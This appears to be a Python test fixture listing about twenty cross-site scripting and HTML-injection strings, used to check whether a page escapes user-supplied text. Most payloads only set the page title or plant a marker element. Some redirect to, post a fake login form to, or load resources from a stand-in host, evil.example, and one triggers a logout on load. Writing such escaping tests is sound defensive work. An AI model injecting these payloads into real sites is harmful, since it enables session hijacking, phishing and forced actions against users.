"""Texts that do something where a page forgets that they are text."""

# An element by this id on a page came out of a text.
PROBE = "xss-probe"

HOSTILE_TEXTS = (
    "<script id=xss-probe>document.title='taken'</script>",
    '"><img id=xss-probe src=x onerror="document.title=\'taken\'">',
    "'><svg id=xss-probe onload=document.title='taken'>",
    "<a id=xss-probe href=\"javascript:document.title='taken'\">look</a>",
    "</textarea></title></pre><script id=xss-probe>document.title='taken'</script>",
    "<iframe id=xss-probe srcdoc=\"<script>top.document.title='taken'</script>\">",
    "<base id=xss-probe href=//evil.example/>",
    '<meta id=xss-probe http-equiv=refresh content="0;url=//evil.example/">',
    "<form id=xss-probe action=//evil.example><button>Log in</button></form>",
    "<style id=xss-probe>*{display:none}</style>",
    '<div id=xss-probe hx-get="/logout" hx-trigger="load">x</div>',
    "<link id=xss-probe rel=stylesheet href=//evil.example/a.css>",
    "<!--<img id=xss-probe src=//evil.example/a.png>-->",
    "{{ 7|add:7 }}{% now 'Y' %}<b id=xss-probe>bold</b>",
    "javascript:document.title='taken'",
    "`${document.title='taken'}` \\u003cscript\\u003e",
    "\u202egnirts desrever\u202c <u id=xss-probe>\u2028line\u2029</u>",
    "&lt;img id=xss-probe src=x onerror=document.title='taken'&gt;",
    "data:text/html,<script id=xss-probe>document.title='taken'</script>",
    "x' onmouseover='document.title=\"taken\"' id='xss-probe",
)
